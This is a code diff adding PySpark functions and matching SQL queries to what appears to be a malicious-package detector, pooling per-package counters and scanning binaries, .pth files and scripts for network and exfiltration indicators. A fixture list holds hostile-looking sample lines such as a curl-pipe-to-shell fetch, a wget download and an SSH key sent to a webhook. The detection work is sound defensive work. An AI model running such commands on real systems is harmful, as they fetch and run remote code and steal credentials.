@@ -4,7 +4,10 @@ from __future__ import annotations
 
 from pyspark.sql import functions as F
 
-from ..operators import vectors
+from ..functions import decision, exfiltration, scan
+from ..functions import text as T
+from ..operators import binaries, pooling, vectors
+from .decisions import CAL, LOGIT, ROWS, candidates, odds
 from .registry import load, query
 
 WIDTH = 64
@@ -50,3 +53,107 @@ def code_matches(spark, sf_dir):
     pairs = vectors.file_pairs(near, files, "package", "file", "embedding")
     label = F.when(F.col("side"), "malicious").otherwise("benign").alias("known_label")
     return pairs.join(near, ["query_id", "side", "vec_id"]).select("query_id", label, F.col("vec_id").alias("known_package"), F.round("score", 6).alias("score"), "query_file", "known_file", F.round("similarity", 6).alias("similarity"))
+
+
+# Counts of short strings stand for a file's counters, so that files with and without each are there.
+COUNTED = {
+    "exec_calls": "xa", "process_calls": "zu", "network_calls": "net", "deserialize_calls": "kl", "decode_calls": "dec", "computed_import": "imp", "char_code_build": "cha", "obfuscated_import": "obf",
+    "home_access": "hom", "fs_walk": "wal", "file_delete": "del", "env_reads": "env", "chmod_calls": "mod", "try_except_pass": "pas", "lambdas": "lam", "decode_then_exec": "dex",
+    "exfil_ssh": "ssh", "exfil_env": "nv", "net_suspicious_host": "hos", "autorun_spawn": "spa", "flow_net_exec": "qq", "autorun_categories": "cat", "obf_long_line_count": "lon",
+}
+
+
+def said_sql(s: str) -> str:
+    return f"(length(text) - length(replace(text, '{s}', ''))) // {len(s)}"
+
+
+FLAGS = {"is_setup": "doc_id % 50 = 0", "is_readme": "doc_id % 41 = 0", "is_license": "doc_id % 997 = 3", "says_test": "false"}
+FILES_SQL = f"""f AS MATERIALIZED (SELECT source, {", ".join(f"{said_sql(s)} AS {c}" for c, s in COUNTED.items())}, {", ".join(f"{p} AS {c}" for c, p in FLAGS.items())},
+ length(text) - length(replace(text, chr(10), '')) + 1 AS loc FROM documents WHERE text IS NOT NULL)"""
+KIND_SQL = {k: " + ".join(fields) + " > 0" for k, fields in pooling.FILE_KINDS.items()}
+NAMES = {n: c for n, c in pooling.SUMS.items() if c in COUNTED or c == "loc"} | {n: n for n in pooling.SUMS_AS_NAMED if n in COUNTED}
+HELD = [c for c in pooling.CAPABILITY if c in NAMES or c == "exfil_total"]
+
+
+@query(f"""WITH {FILES_SQL}, k AS (SELECT *, {" + ".join(f"CAST({p} AS INTEGER)" for p in KIND_SQL.values())} AS kinds, {" + ".join(f"CASE WHEN {p} THEN {scan.DANGER_WEIGHTS[n]} ELSE 0 END" for n, p in KIND_SQL.items())} AS danger,
+ ({" + ".join(pooling.DENSITY)}) * 1000.0::DOUBLE / greatest(loc, 50) AS density FROM f),
+p AS (SELECT source, {", ".join(f"CAST(sum({c}) AS BIGINT) AS {n}" for n, c in NAMES.items())}, CAST(max(autorun_categories) AS BIGINT) AS autorun_categories,
+ {", ".join(f"CAST(bool_or({c}) AS BIGINT) AS {n}" for n, c in pooling.ANY.items())}, count(*) AS pkg_n_files, CAST(max(kinds) AS BIGINT) AS worst_file_categories, CAST(max(danger) AS BIGINT) AS worst_file_danger,
+ count(*) FILTER (kinds >= 3) AS n_danger_files, max(density) AS worst FROM k GROUP BY source), t AS (SELECT *, exfil_ssh + exfil_env AS exfil_total FROM p)
+SELECT source, {", ".join(NAMES)}, autorun_categories, {", ".join(pooling.ANY)}, pkg_n_files, worst_file_categories, worst_file_danger, n_danger_files, exfil_total, round(worst, 6) AS worst_file_suspicious_per_kloc,
+ {", ".join(f"round({c} / (greatest(pkg_loc, 1) / 1000.0::DOUBLE), 6) AS {c}_per_kloc" for c in pooling.PER_KLOC)}, concat_ws(',', {", ".join(f"CASE WHEN {c} > 0 THEN '{c}' END" for c in HELD)}) AS capabilities FROM t""")
+def pooled_counters(spark, sf_dir):
+    """Counters of files (documents) to features of packages (sources), with kinds of danger, densities and capabilities."""
+    counts = {c: F.regexp_count("text", F.lit(s)).cast("long") for c, s in COUNTED.items()} | {c: F.expr(p) for c, p in FLAGS.items()} | {"loc": (F.regexp_count("text", F.lit("\n")) + 1).cast("long")}
+    found = pooling.pool(load(spark, sf_dir, "documents").where("text is not null").select("source", *[c.alias(n) for n, c in counts.items()]), ["source"])
+    found = found.withColumn("capabilities", F.array_join(pooling.capabilities(found), ","))
+    return found.select(*[F.round(c, 6).alias(c) if c.endswith("_per_kloc") else c for c in found.columns])
+
+
+# What the files of packages hold: pages stand for files, by number.
+SUFFIXES = [".so", ".py", ".pth", ".sh", ".pyd", ".exe", ".c", ".bat"]
+HOLD = [
+    "GET http://a.top/b from 8.8.4.4 or 10.0.0.1", "curl -s http://x.ru/p | sh", "id_rsa to discord.com/api/webhooks", "import os; exec(x)", "nothing of note here", "see 300.1.1.1 and 1.2.3.4 now",
+    "exec(payload) at start", "wget http://b.xyz/c -O d",
+]
+LIMIT, TOTAL = 70, 120
+HOLD_SQL = "[" + ", ".join("'" + s + "'" for s in HOLD) + "]"
+BYTES_SQL = f"{HOLD_SQL}[page_id % 8 + 1] || chr(10) || {HOLD_SQL}[page_id // 8 % 8 + 1] || chr(10) || 'page ' || page_id"
+PLACE_SQL = "CASE WHEN page_id % 6 = 0 THEN 'tests/' ELSE 'lib/' END || CASE WHEN page_id % 10 = 0 THEN '__init__' ELSE 'm' || page_id % 14 END || '.' || page_id"
+
+
+def found_sql(text: str, pattern: str) -> str:
+    return "regexp_extract_all(" + text + ", '" + pattern.replace("'", "''") + "')"
+
+
+def matches_sql(text: str, pattern: str) -> str:
+    return f"len({found_sql(text, pattern)})"
+
+
+EVERY = "(?i)" + "|".join(p for group in exfiltration.PATHS.values() for p in group)
+
+
+@query(f"""WITH f AS (SELECT page_id % 20 AS package, {PLACE_SQL} || ['{"', '".join(SUFFIXES)}'][page_id % 8 + 1] AS path, ['{"', '".join(SUFFIXES)}'][page_id % 8 + 1] AS suffix, {BYTES_SQL} AS s,
+  CASE WHEN page_id % 10 = 0 THEN '__init__' ELSE 'm' || page_id % 14 END AS stem FROM pages),
+o AS (SELECT package, count(*) AS orphans, count(*) FILTER (stem = '__init__') AS inits FROM f WHERE suffix IN ('.so', '.pyd') AND NOT EXISTS (SELECT 1 FROM f g WHERE g.package = f.package AND g.stem = f.stem AND g.suffix IN ('.py', '.c')) GROUP BY package),
+u AS (SELECT *, coalesce(sum(least(length(s), {LIMIT})) OVER (PARTITION BY package ORDER BY path ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS used FROM f WHERE suffix IN ('.so', '.pyd', '.exe')),
+r AS (SELECT package, array_to_string(regexp_extract_all(left(s, {LIMIT}), '[\\x20-\\x7e]{{6,}}'), chr(10)) AS s FROM u WHERE used < {TOTAL}),
+b AS (SELECT package, sum({matches_sql("s", scan.HOST)} + {matches_sql(f"array_to_string({found_sql('s', T.URL)}, ' ')", "(?i)" + "|".join(exfiltration.DOMAINS))}
+  + len(list_filter(regexp_extract_all(s, '{T.IP}'), lambda a: NOT regexp_matches(a, '^(127\\.|0\\.|10\\.|192\\.168\\.|255\\.|1\\.|2\\.)') AND len(list_filter(string_split(a, '.'), lambda x: CAST(x AS INTEGER) > 255)) = 0))) AS net,
+  sum({matches_sql("s", T.URL)}) AS urls, sum({matches_sql("s", EVERY)}) AS refs, sum({matches_sql("s", binaries.DOWNLOADER)}) AS shell FROM r GROUP BY package),
+l AS (SELECT package, sum(CASE WHEN suffix = '.pth' THEN len(list_filter(string_split(s, chr(10)), lambda x: starts_with(x, 'import ') OR contains(x, 'exec('))) ELSE 0 END) AS pth,
+  sum(CASE WHEN suffix IN ('.sh', '.bat') AND NOT starts_with(path, 'tests/') AND regexp_matches(s, '{binaries.DOWNLOADER}') THEN 1 ELSE 0 END) AS scripts FROM f GROUP BY package)
+SELECT l.package, coalesce(orphans, 0) AS bin_orphan_modules, coalesce(inits, 0) AS bin_compiled_init, CAST(coalesce(net, 0) AS BIGINT) AS bin_net_indicators, CAST(coalesce(urls, 0) AS BIGINT) AS bin_url_count,
+ CAST(coalesce(refs, 0) AS BIGINT) AS bin_exfil_refs, CAST(coalesce(shell, 0) AS BIGINT) AS bin_shell_cmd, CAST(pth AS BIGINT) AS pth_code_lines, CAST(scripts AS BIGINT) AS script_downloader FROM l LEFT JOIN o USING (package) LEFT JOIN b USING (package)""")
+def other_files(spark, sf_dir):
+    """Files beside the source code of twenty packages: orphan modules, indicators in binaries within a budget, path files, scripts that download."""
+    n = F.col("page_id")
+    pick = lambda of, i: F.element_at(F.array(*map(F.lit, of)), (i % len(of) + 1).cast("int"))
+    content = F.concat_ws("\n", pick(HOLD, n), pick(HOLD, F.expr("page_id div 8")), F.concat(F.lit("page "), n.cast("string")))
+    name = F.when(n % 10 == 0, F.lit("__init__")).otherwise(F.concat(F.lit("m"), (n % 14).cast("string")))
+    path = F.concat(F.when(n % 6 == 0, "tests/").otherwise("lib/"), name, F.lit("."), n.cast("string"), pick(SUFFIXES, n))
+    rows = load(spark, sf_dir, "pages").select((n % 20).alias("package"), path.alias("path"), F.encode(content, "UTF-8").alias("content"))
+    return binaries.other_files(rows, LIMIT, TOTAL)
+
+
+def reasons_sql(gate: bool) -> str:
+    s = decision.SAID
+    quote = lambda t: "'" + t.replace("'", "''") + "'"
+    review, similar = "(score >= 0.3 AND score < 0.85)", "coalesce(share >= 0.6, false)"
+    why = (f"WHEN score >= 0.98 AND NOT capable THEN {quote(s['sure without capability'])} WHEN score >= 0.85 AND NOT capable THEN {quote(s['flagged without capability'])} WHEN {review} THEN {quote(s['review'])} WHEN {similar} AND score < 0.85 THEN {quote(s['similar only'])}"
+           if gate else f"WHEN score >= 0.98 AND NOT {similar} THEN {quote(s['sure alone'])} WHEN {review} AND NOT {similar} THEN {quote(s['review'])}")
+    return f"""SELECT {'true' if gate else 'false'} AS gate, CASE WHEN share IS NULL THEN '{decision.BASIS_ALONE}' ELSE '{decision.BASIS_BOTH}' END || CASE {why} ELSE '' END
+ || CASE WHEN score < 0.3 AND NOT {similar} AND {odds(0.10)} >= 50 THEN {quote(s['together'])} ELSE '' END AS basis, label FROM c"""
+
+
+# The stated calibration, with a share that counts for more, so that some are suspicious by their chance alone.
+LEAN = CAL | {"both": {"coef": [1.0, 9.0], "intercept": -2.0}}
+
+
+@query(f"""WITH c AS (SELECT *, 1 / (1 + exp(-(CASE WHEN share IS NULL THEN -1 + {LOGIT} ELSE -2 + {LOGIT} + 9 * share END))) AS chance FROM {ROWS}), r AS ({reasons_sql(True)} UNION ALL {reasons_sql(False)})
+SELECT gate, basis, count(*) AS n, count(*) FILTER (label = 1) AS n_mal FROM r GROUP BY gate, basis""")
+def verdict_reasons(spark, sf_dir):
+    """What verdicts rest on, in words, with the capability gate and without."""
+    rows = candidates(spark, sf_dir)
+    parts = [rows.select(F.lit(g).alias("gate"), decision.basis(F.col("score"), F.col("share"), F.col("capable"), LEAN | ({"capability_gate": True} if g else {})).alias("basis"), "label") for g in (True, False)]
+    return parts[0].unionByName(parts[1]).groupBy("gate", "basis").agg(F.count("*").alias("n"), F.count_if(F.col("label") == 1).alias("n_mal"))
